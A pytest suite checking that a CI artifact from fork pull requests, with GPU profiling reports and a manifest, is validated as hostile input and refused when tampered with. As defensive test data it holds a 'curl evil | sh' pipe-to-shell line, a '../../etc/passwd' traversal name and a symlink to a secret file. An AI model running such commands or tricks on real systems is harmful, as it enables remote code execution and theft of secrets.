"""The fork pair's artifact read as hostile data: every way it can lie is one clear error."""

from __future__ import annotations

import errno
import json
import os
from pathlib import Path
from typing import Any

import pytest

from service.errors import BadInput
from service.github.artifact import MANIFEST, MAX_MANIFEST_BYTES, pack, read_event, unpack

SHA = "0123456789abcdef0123456789abcdef01234567"
PR = 42


def event(sha: str = SHA, prs: tuple[int, ...] = (), kind: str = "pull_request") -> dict[str, Any]:
    return {
        "workflow_run": {
            "event": kind,
            "head_sha": sha,
            "head_branch": "topic",
            "pull_requests": [{"number": n} for n in prs],
        }
    }


@pytest.fixture
def packed(tmp_path: Path) -> Path:
    reports = tmp_path / "src"
    reports.mkdir()
    (reports / "ncu-raw.csv").write_text("kernel,duration\ngemm,1\n")
    (reports / "second.json").write_text("{}")
    folder = tmp_path / "artifact"
    pack(sorted(reports.iterdir()), folder, pr=PR, sha=SHA, device="H100-SXM5")
    return folder


def edit_manifest(folder: Path, **changes: Any) -> None:
    data = json.loads((folder / MANIFEST).read_text())
    data.update(changes)
    (folder / MANIFEST).write_text(json.dumps(data))


def refused(folder: Path, match: str, ev: dict[str, Any] | None = None) -> None:
    out = folder.parent / "out"
    with pytest.raises(BadInput, match=match):
        unpack(folder, out, ev or event())
    assert not out.exists() or not any(out.iterdir()), "nothing unverified is left to judge"


def test_a_packed_artifact_unpacks_to_exactly_its_reports(packed: Path, tmp_path: Path) -> None:
    found = unpack(packed, tmp_path / "out", event(prs=(PR,)))
    assert (found.pr, found.sha, found.branch, found.device) == (PR, SHA, "topic", "H100-SXM5")
    assert [p.name for p in found.reports] == ["ncu-raw.csv", "second.json"]
    assert found.reports[0].read_text() == "kernel,duration\ngemm,1\n"


def test_the_run_measured_again_unpacks_as_its_re_measurements(tmp_path: Path) -> None:
    first, again = tmp_path / "ncu-raw.csv", tmp_path / "ncu-raw-again.csv"
    first.write_text("kernel,duration\ngemm,1\n")
    again.write_text("kernel,duration\ngemm,2\n")
    manifest = pack([first], tmp_path / "artifact", pr=PR, sha=SHA, reruns=[again])
    assert [(f.name, f.rerun) for f in manifest.files] == [
        ("ncu-raw.csv", False),
        ("ncu-raw-again.csv", True),
    ]
    found = unpack(tmp_path / "artifact", tmp_path / "out", event())
    assert [p.name for p in found.reports] == ["ncu-raw.csv"]
    assert [p.read_text() for p in found.reruns] == ["kernel,duration\ngemm,2\n"]


def test_an_artifact_of_re_measurements_alone_is_refused(packed: Path) -> None:
    data = json.loads((packed / MANIFEST).read_text())
    edit_manifest(packed, files=[{**f, "rerun": True} for f in data["files"]])
    refused(packed, "field files: .*no run to judge")
    edit_manifest(packed, files=[{**data["files"][0], "rerun": "yes"}, data["files"][1]])
    refused(packed, "field files.0.rerun")  # strict: a string is not a flag


def test_another_commit_is_refused(packed: Path) -> None:
    refused(packed, "field sha: 0123456789ab is not the workflow run's head", event("a" * 40))


def test_a_pr_the_event_does_not_list_is_refused(packed: Path) -> None:
    refused(packed, r"field pr: #42 is not the run's PR \[7\]", event(prs=(7,)))


def test_only_a_pull_request_workflow_run_is_accepted(packed: Path) -> None:
    refused(packed, "workflow_run.event: 'push'", event(kind="push"))
    with pytest.raises(BadInput, match="not a workflow_run event"):
        unpack(packed, packed.parent / "out", {"pull_request": {}})


@pytest.mark.parametrize(
    ("files", "match"),
    [
        ([{"name": "../../etc/passwd", "size": 1, "sha256": "0" * 64}], r"field files\.0\.name"),
        ([{"name": "a/b.csv", "size": 1, "sha256": "0" * 64}], r"field files\.0\.name"),
        ([{"name": ".hidden", "size": 1, "sha256": "0" * 64}], r"field files\.0\.name"),
        ([{"name": "a.csv", "size": -1, "sha256": "0" * 64}], r"field files\.0\.size"),
        ([{"name": "a.csv", "size": 1, "sha256": "x"}], r"field files\.0\.sha256"),
        ([], r"field files"),
    ],
    ids=["traversal", "subfolder", "dotfile", "negative-size", "bad-hash", "no-files"],
)
def test_bad_file_entries_name_the_field(packed: Path, files: list, match: str) -> None:
    edit_manifest(packed, files=files)
    refused(packed, match)


def test_unknown_or_mistyped_manifest_fields_are_refused(packed: Path) -> None:
    edit_manifest(packed, repo="someone/else")
    refused(packed, "field repo: Extra inputs are not permitted")
    edit_manifest(packed, repo=None)
    data = json.loads((packed / MANIFEST).read_text())
    del data["repo"]
    data["pr"] = "42"  # strict: a string is not a number
    (packed / MANIFEST).write_text(json.dumps(data))
    refused(packed, "field pr")


def test_an_oversized_manifest_is_not_even_parsed(packed: Path) -> None:
    (packed / MANIFEST).write_text(" " * (MAX_MANIFEST_BYTES + 1))
    refused(packed, f"at most {MAX_MANIFEST_BYTES} are accepted")


def test_an_extra_file_or_folder_is_refused(packed: Path) -> None:
    (packed / "run.sh").write_text("curl evil | sh")
    refused(packed, r"unexpected entries \['run.sh'\]")
    (packed / "run.sh").unlink()
    (packed / "reports" / "nested").mkdir()
    refused(packed, r"files not in the manifest: \['nested'\]")


def test_a_listed_file_that_is_missing_is_refused(packed: Path) -> None:
    (packed / "reports" / "second.json").unlink()
    refused(packed, r"listed but missing: \['second.json'\]")


def test_a_symlink_is_refused(packed: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("token")
    target = packed / "reports" / "second.json"
    target.unlink()
    os.symlink(secret, target)
    refused(packed, "not a regular file")


def test_changed_content_is_refused(packed: Path) -> None:
    (packed / "reports" / "ncu-raw.csv").write_text("kernel,duration\ngemm,9\n")
    refused(packed, "size or SHA-256 differs from the manifest")


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full (Linux's full disk)")
def test_a_copy_the_disk_refuses_midway_leaves_nothing_behind(packed: Path, tmp_path: Path) -> None:
    """Disk full on the second report (``/dev/full`` as its destination): the first report,
    verified and copied, and the second's half-written file were left for a later step."""
    out = tmp_path / "out"
    out.mkdir()
    os.symlink("/dev/full", out / "second.json")
    with pytest.raises(BadInput, match=r"out/second\.json: cannot write: No space left") as failed:
        unpack(packed, out, event())
    assert isinstance(failed.value.__cause__, OSError)
    assert failed.value.__cause__.errno == errno.ENOSPC
    assert list(out.iterdir()) == []


def test_a_destination_that_cannot_be_opened_leaves_nothing_behind(
    packed: Path, tmp_path: Path
) -> None:
    """A folder where the second report goes: the first, copied, was left behind."""
    out = tmp_path / "out"
    (out / "second.json").mkdir(parents=True)
    with pytest.raises(BadInput, match=r"out/second\.json: cannot write: Is a directory"):
        unpack(packed, out, event())
    assert [p.name for p in out.iterdir()] == ["second.json"]  # only what was there before


def test_pack_refuses_names_it_could_not_unpack(tmp_path: Path) -> None:
    """The manifest's own error named ``files.0.name`` and a pattern, not the file."""
    odd = tmp_path / "my report.csv"
    odd.write_text("x")
    with pytest.raises(BadInput) as refused:
        pack([odd], tmp_path / "artifact", pr=PR, sha=SHA)
    assert str(refused.value).startswith(f"{odd}: the artifact carries plain file names only")
    assert "rename 'my report.csv'" in str(refused.value)
    assert not (tmp_path / "artifact").exists()


def test_pack_refuses_two_reports_of_one_name_naming_both(tmp_path: Path) -> None:
    """One ncu.csv a GPU in two folders: "file names must be unique" named neither."""
    first, second = tmp_path / "a" / "ncu.csv", tmp_path / "b" / "ncu.csv"
    for path in (first, second):
        path.parent.mkdir()
        path.write_text("x")
    with pytest.raises(BadInput) as refused:
        pack([first], tmp_path / "artifact", pr=PR, sha=SHA, reruns=[second])
    assert str(refused.value).startswith(f"{second}: {first} has the same file name")


def test_the_event_file_must_be_there(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="GITHUB_EVENT_PATH: not set"):
        read_event(None)
    (tmp_path / "e.json").write_text("[1]")
    with pytest.raises(BadInput, match="not a JSON object"):
        read_event(str(tmp_path / "e.json"))
